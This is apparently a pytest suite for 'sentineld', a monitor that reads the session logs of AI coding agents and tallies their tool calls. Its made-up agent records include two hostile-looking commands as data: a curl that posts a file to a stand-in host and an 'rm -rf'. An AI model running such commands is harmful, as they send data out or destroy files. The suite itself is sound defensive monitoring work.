"""``sentineld run`` without arguments: it finds what the agents of this user write, and says so."""

import json
import os
import shutil
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import command_line
import pytest

#: A user without rights, where tests run as root: root does not guess.
NOBODY = 65534
CLAUDE, CODEX = ".claude/projects/-work-app", ".codex/sessions/2026/01/05"
SESSION, THREAD = "0a1b2c3d-4e5f-4061-8071-2a3b4c5d6e7f", "01890a5d-ac96-774b-bcce-b302099a8057"


def claude_call(number: int, tool: str = "Read", **arguments: Any) -> dict[str, Any]:
    call = {
        "type": "tool_use",
        "id": f"toolu_{number:022}",
        "name": tool,
        "input": arguments or {"n": number},
    }
    return {
        "type": "assistant",
        "uuid": f"u-{number}",
        "sessionId": SESSION,
        "timestamp": f"2026-01-05T10:00:{number:02}.000Z",
        "message": {"role": "assistant", "id": f"msg_{number:022}", "model": "m", "content": [call]},
    }


def codex_lines(*calls: str) -> list[dict[str, Any]]:
    at = "2026-01-05T11:00:00.000Z"
    header = {"type": "session_meta", "timestamp": at, "payload": {"id": THREAD, "cwd": "/work/app"}}
    return [
        header,
        *(
            {
                "type": "response_item",
                "timestamp": at,
                "payload": {
                    "type": "function_call",
                    "name": "exec_command",
                    "arguments": json.dumps({"cmd": command}),
                    "call_id": f"call_{number:020}",
                },
            }
            for number, command in enumerate(calls)
        ),
    ]


@dataclass
class Home:
    """A user's home: what agents write there, and commands as that user."""

    base: Path
    place: Any

    def write(self, name: str, *records: Any) -> Path:
        path = self.base / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("ab") as file:
            file.write(b"".join(json.dumps(record).encode() + b"\n" for record in records))
        return path

    def give(self, owner: int = NOBODY, path: Path | None = None) -> None:
        """Make a user the owner of what is there, where we may."""
        if os.geteuid() == 0:
            for item in [path] if path is not None else [self.base, *self.base.rglob("*")]:
                os.chown(item, owner, owner)

    def run(self, *args: object) -> Any:
        """Run a command as the user."""
        arguments = [*map(str, args)]
        if not {"--state-dir", "init"} & {*arguments}:
            arguments += ["--state-dir", str(self.place.state_dir)]
        uid = NOBODY if os.geteuid() == 0 else None
        return command_line.run(arguments, self.place.environment(), self.base, 60, uid)

    def document(self, *args: object) -> Any:
        self.give()
        done = self.run(*args, "--json")
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)


@pytest.fixture
def home(place) -> Iterator[Home]:
    # Where the other user may look: not below the directory that belongs to these tests.
    base = Path(tempfile.mkdtemp(prefix="sentineld-home-"))
    base.chmod(0o755)
    place.base = base
    yield Home(base, place)
    shutil.rmtree(base, ignore_errors=True)


def logged(done: Any, event: str) -> list[dict[str, Any]]:
    records = [json.loads(line) for line in done.stderr.splitlines() if line.startswith("{")]
    return [record for record in records if record["event"] == event]


def test_run_without_arguments_reads_what_the_agents_of_this_user_write(home):
    home.write(
        f"{CLAUDE}/{SESSION}.jsonl", claude_call(1), claude_call(2, "Bash", command="curl -d @x h.example")
    )
    home.write(f"{CLAUDE}/{SESSION}/subagents/agent-a1.jsonl", {**claude_call(3), "agentId": "a1"})
    home.write(f"{CLAUDE}/{SESSION}.jsonl", {"type": "brand-new-record", "sessionId": SESSION})
    home.write(f"{CODEX}/rollout-2026-01-05T11-00-00-{THREAD}.jsonl", *codex_lines("cat README.md", "ls"))
    # What else lies there is neither read nor warned of.
    home.write(".claude/projects/sessions-index.json", {"version": 1, "entries": []})
    home.write(f"{CLAUDE}/{SESSION}/tool-results/1.txt", "text")

    home.give()

    done = home.run("run", "--once", "--json")

    assert done.returncode == 0, done.stderr
    document = json.loads(done.stdout)
    assert document["totals"]["tool_calls"] == 5
    assert document["totals"]["rejects"] == 0
    assert document["totals"]["unknown_records"] == {"claude_code": {"brand-new-record": 1}}
    formats = {Path(path).name: entry["format"] for path, entry in document["files"].items()}
    assert formats == {
        f"{SESSION}.jsonl": "claude_code",
        "agent-a1.jsonl": "claude_code",
        f"rollout-2026-01-05T11-00-00-{THREAD}.jsonl": "codex",
    }
    found = {(record["format"], record["path"]) for record in logged(done, "place_watched")}
    assert found == {
        ("claude_code", str(home.base / ".claude/projects")),
        ("codex", str(home.base / ".codex/sessions")),
    }
    (missing,) = logged(done, "place_not_found")
    assert "pi" in missing["formats"] or len(missing["formats"]) > 2
    warnings = [json.loads(line) for line in done.stderr.splitlines() if '"warning"' in line]
    assert {record["event"] for record in warnings} - {"exposed"} == {"telemetry_trouble"}
    assert [
        record["cause"].split()[0]
        for record in warnings
        if "cause" in record and record["event"] != "exposed"
    ] == ["unknown_record"]
    assert home.document("status")["totals"]["tool_calls"] == 5


def test_check_init_and_mapping_list_agree_with_run(home):
    home.write(f"{CLAUDE}/{SESSION}.jsonl", claude_call(1))
    place = str(home.base / ".claude/projects")

    checked = home.document("check")
    assert checked["ok"], checked
    assert checked["effective"]["telemetry"]["directories"] == [place]
    written = home.document("init", "--config", "mine.toml")
    assert written["telemetry"] == [place]
    assert f'#directories = ["{place}"]' in (home.base / "mine.toml").read_text()
    again = home.document("check", "--config", "mine.toml")
    assert again["effective"]["telemetry"]["directories"] == [place]
    listed = {entry["name"]: entry for entry in home.document("mapping", "list")["formats"]}
    assert listed["claude_code"]["found"] == [place]
    assert listed["codex"]["found"] == []
    assert str(home.base / ".codex/sessions") in listed["codex"]["places"]


def test_without_any_agent_it_says_where_it_looked(home):
    home.give()

    done = home.run("run", "--once")

    assert done.returncode == 78
    assert "where it looked: sentineld mapping list" in done.stderr
    assert str(home.base / ".claude/projects") in home.run("mapping", "list").stdout
    assert "--telemetry DIR" in done.stderr
    assert home.run("check").returncode == 1


def test_init_without_any_agent_leaves_it_to_run_to_find_them(home):
    home.give()

    done = home.run("init", "--config", "mine.toml")

    assert done.returncode == 0, done.stderr
    assert "#directories = []" in (home.base / "mine.toml").read_text()
    assert "/var/log/agents" not in done.stdout
    assert "--telemetry DIR" in done.stdout


def test_an_environment_that_moves_an_agent_moves_its_place(home):
    home.write("elsewhere/projects/-x/s.jsonl", claude_call(1))
    home.place.env["CLAUDE_CONFIG_DIR"] = str(home.base / "elsewhere")

    document = home.document("run", "--once")

    assert document["totals"]["tool_calls"] == 1


def test_a_state_directory_above_a_place_is_refused(home):
    home.write(f"{CLAUDE}/{SESSION}.jsonl", claude_call(1))

    home.give()

    done = home.run("run", "--once", "--state-dir", home.base)

    assert done.returncode == 78
    assert "lies inside the state directory" in done.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="needs two users")
def test_what_belongs_to_another_user_is_left_out(home):
    path = home.write(f"{CLAUDE}/{SESSION}.jsonl", claude_call(1)).parents[1]
    home.give()
    home.give(0, path)

    done = home.run("run", "--once")

    assert done.returncode == 78
    assert f"left out as another user's: {path}" in done.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root")
def test_root_watches_where_its_own_agents_write(home):
    path = home.write(f"{CLAUDE}/{SESSION}.jsonl", claude_call(1)).parents[1]

    done = home.place.command("run", "--once", "--json")

    assert done.returncode == 0
    assert json.loads(done.stdout)["totals"]["tool_calls"] == 1
    assert f'"path": "{path}"' in done.stderr


def test_every_way_of_reading_agrees_on_which_files_are_telemetry(place):
    telemetry = place.telemetry
    telemetry.append(f"u/{CLAUDE}/s.jsonl", claude_call(1))
    telemetry.append("u/.claude/projects/sessions-index.json", {"version": 1})
    telemetry.append("osqueryd.results.log", b"not JSON\n")
    telemetry.append("notes.log", b"neither\n")
    read = {"s.jsonl": 1, "osqueryd.results.log": 0}

    live = json.loads(place.once("--json").stdout)
    plain = place.json("replay", telemetry.directory)
    observed = place.json("replay", "--as-observed", telemetry.directory)

    for document in (live, plain, observed):
        assert {Path(path).name: entry["accepted"] for path, entry in document["files"].items()} == read
        assert document["totals"]["rejects"] == 1
    assert observed["missing"] == []


def test_mapped_telemetry_replays_as_observed_across_kills(place, wait_for):
    place.telemetry.append("p/-work-app/s.jsonl", *(claude_call(n) for n in range(1, 4)))
    place.telemetry.append(f"rollout-x-{THREAD}.jsonl", *codex_lines("ls"))
    daemon = place.start()
    wait_for(lambda: place.json("status")["totals"]["tool_calls"] == 4, "history")
    place.telemetry.append("p/-work-app/s.jsonl", *(claude_call(n) for n in range(4, 7)))
    wait_for(lambda: place.json("status")["totals"]["tool_calls"] == 7, "live")
    daemon.kill()
    # What needs the session's header, after a restart: it is not read again.
    place.telemetry.append(f"rollout-x-{THREAD}.jsonl", *codex_lines("ls", "rm -rf /x")[2:])
    place.telemetry.append("p/-work-app/s.jsonl", claude_call(6), claude_call(7))
    daemon = place.start()
    status = wait_for(
        lambda: (found := place.json("status"))["totals"]["tool_calls"] == 9 and found, "after the kill"
    )
    assert daemon.stop() == 0

    replayed = place.json("replay", "--as-observed", place.telemetry.directory)

    assert replayed["missing"] == []
    assert replayed["totals"]["by_type"] == status["totals"]["by_type"]
    assert replayed["totals"]["tool_calls"] == 9
    events = {name: entry["events"] for name, entry in replayed["agents"].items()}
    assert events == {name: entry["events"] for name, entry in status["agents"].items()}
    assert "/work/app" in "".join(events)
    assert "-work-app" in "".join(events)
    assert {Path(path).name: entry["accepted"] for path, entry in replayed["files"].items()} == {
        Path(path).name: entry["accepted"] for path, entry in status["files"].items()
    }
